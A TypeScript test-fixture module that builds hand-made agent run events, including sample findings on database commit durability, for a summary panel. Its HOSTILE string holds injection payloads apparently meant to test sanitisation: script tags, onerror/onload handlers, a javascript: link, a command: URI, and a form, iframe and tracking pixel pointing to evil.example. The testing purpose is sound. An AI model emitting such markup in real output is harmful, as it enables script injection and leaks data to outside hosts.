import type { RunConfig } from '../../src/run/config.ts';
import type { EventDraft } from '../../src/run/events.ts';
import { reviewDigest } from '../../src/run/review.ts';
import { fold } from '../../src/run/fold.ts';
import type { RunState } from '../../src/run/state.ts';
import type { StopReason } from '../../src/run/stop-reason.ts';
import {
  answered,
  ended,
  events,
  failedIteration,
  makeConfig,
  reserved,
  startOfRun,
  task,
  unanswered,
} from '../support/run-events.ts';

/** Runs for the summary panel to show, made by hand and the same every time. */

const SUBJECTS = [
  'Compare how SQLite, PostgreSQL and DuckDB make a commit durable when the power fails',
  'List the settings that change the answer, with their defaults',
  'Measure write latency of each with fsync on a laptop disk',
  'Find reports of lost commits and classify their causes',
  'Read the section on checkpoints in each manual and note what is promised',
  'Draw up a table of guarantees against settings',
  'Check whether the table holds on network file systems',
  'Summarise what an embedded application should choose',
] as const;

const RESULT = `## What was found

**Write-ahead logging** makes a commit durable once the log is synced; see [the manual](https://example.org/wal?q=1).

| engine | default | syncs per commit |
|---|---|---:|
| SQLite (WAL) | \`synchronous = NORMAL\` | 0 |
| PostgreSQL | \`fsync = on\` | 1 |
| DuckDB | checkpoint at close | 1 |

1. Turn \`synchronous\` to \`FULL\` where power may fail.
2. Measure again on the target disk:

\`\`\`sql
PRAGMA journal_mode = WAL;
PRAGMA synchronous = FULL;
\`\`\`

- [x] defaults checked
- [ ] network file systems
`;

/** What a model must not be able to do to the page. */
export const HOSTILE = `# Hello <img src=x onerror="document.body.dataset.owned=1">
<script>document.body.dataset.owned = 2</script>
<style>body { display: none }</style><form action="https://evil.example"><input name=key></form>
<iframe src="https://evil.example"></iframe>

[click](javascript:document.body.dataset.owned=3) [run](command:workbench.action.quit) ![pixel](https://evil.example/p.png?k=1)
<a href="https://evil.example" onclick="document.body.dataset.owned=4">link</a> <svg onload="document.body.dataset.owned=5">
`;

export interface MadeRun {
  readonly config: RunConfig;
  readonly drafts: readonly EventDraft[];
}

/** A run of so many iterations, with `calls` calls in each, a few failures and duplicates, and what belongs to them. */
export function longRun(iterations: number, calls: number, overrides: Partial<RunConfig> = {}): MadeRun {
  const config = makeConfig({
    objective: 'Compare three embedded databases for crash safety and recommend one for a desktop application',
    acceptance_criteria: ['A table of guarantees against settings', 'A recommendation with its reasons'],
    limits: {
      max_iterations: Math.max(50, iterations),
      max_cost_usd: Math.max(2.5, iterations / 50),
      max_wall_time_minutes: 480,
      task_timeout_seconds: 120,
    },
    ...overrides,
  });
  const random = pseudoRandom(7);
  const drafts: EventDraft[] = startOfRun();
  const waiting = ['t1'];
  let made = 1;
  for (let number = 1; number <= iterations; number += 1) {
    const id = waiting.shift() ?? 't1';
    if (number % 17 === 0) {
      drafts.push(...failedIteration(number, id, 'The request timed out after 120 s, three times in a row.'));
      continue;
    }
    const options = () => ({
      taskId: id,
      iteration: number,
      latencyMs: 400 + random() * 2600,
      costUsd: 0.0004 + random() * 0.0011,
    });
    drafts.push({ type: 'task.started', task_id: id, iteration: number });
    if (number % 13 === 0)
      drafts.push(...unanswered(`h${number}`, 'held', 'The connection was reset before an answer came.', options()));
    const text = number === 3 ? HOSTILE : RESULT;
    drafts.push(
      ...answered(`x${number}`, text, {
        ...options(),
        inputTokens: 900 + Math.round(random() * 900),
        outputTokens: 400,
      }),
    );
    for (let more = 2; more < calls; more += 1) {
      drafts.push(
        ...answered(`e${number}-${more}`, null, {
          ...options(),
          agent: 'embedding',
          model: 'text-embedding-3-small',
          costUsd: 0.00001,
          inputTokens: 120,
          outputTokens: 0,
        }),
      );
    }
    if (calls > 1)
      drafts.push(
        ...answered(`p${number}`, '{}', { ...options(), agent: 'planning', inputTokens: 700, outputTokens: 180 }),
      );
    drafts.push({ type: 'task.completed', task_id: id, iteration: number, call_id: `x${number}` });
    drafts.push({ type: 'memory.stored', memory_id: id, task_id: id, call_id: `x${number}` });
    const grow = waiting.length < 3 ? 3 : Math.floor(random() * 3);
    for (let more = 0; more < grow; more += 1) {
      made += 1;
      const subject = SUBJECTS[made % SUBJECTS.length] ?? '';
      drafts.push(
        task(`t${made}`, `${subject} (part ${Math.ceil(made / SUBJECTS.length)})`, {
          parent_task_id: id,
          iteration: number,
        }),
      );
      waiting.push(`t${made}`);
    }
    if (number % 5 === 0) {
      drafts.push({
        type: 'task.suppressed',
        text: SUBJECTS[0],
        duplicate_of: id,
        similarity: 0.958,
        why: 'similar',
        parent_task_id: id,
        iteration: number,
      });
    }
    drafts.push({ type: 'iteration.completed', iteration: number, task_id: id });
  }
  return { config, drafts };
}

/** The run with a request under way. */
export function atWork(made: MadeRun): MadeRun {
  const state = stateOf(made);
  const [id = ''] = state.pending;
  const number = state.iteration + 1;
  return followedBy(
    made,
    { type: 'task.started', task_id: id, iteration: number },
    reserved(`x${number}`, { taskId: id, iteration: number, reservedUsd: 0.04 }),
  );
}

/** The run with a review that waits. */
export function atReview(made: MadeRun): MadeRun {
  const state = stateOf(made);
  const digest = reviewDigest(state);
  return followedBy(made, {
    type: 'review.requested',
    review_id: `r${state.iteration}`,
    iteration: state.iteration,
    digest,
    why: 'every 10 iterations',
  });
}

export function atEnd(made: MadeRun, reason: StopReason, detail: string): MadeRun {
  return followedBy(
    made,
    ...answered('synthesis', `The best choice is **SQLite** with full synchronisation [t3], because…\n\n${RESULT}`, {
      agent: 'synthesis',
      iteration: 999,
      costUsd: 0.0042,
    }),
    ended(reason, detail),
  );
}

export function followedBy({ config, drafts }: MadeRun, ...more: readonly EventDraft[]): MadeRun {
  return { config, drafts: [...drafts, ...more] };
}

/** `lastAt`: the time of its last event, milliseconds; without it, as the events are made. */
export function stateOf({ config, drafts }: MadeRun, lastAt?: number): RunState {
  const made = events(...drafts);
  const shift = lastAt === undefined ? 0 : lastAt - Date.parse(made.at(-1)?.ts ?? '');
  return fold(
    config,
    made.map((event) => ({ ...event, ts: new Date(Date.parse(event.ts) + shift).toISOString() })),
  );
}

function pseudoRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    return state / 2_147_483_648;
  };
}
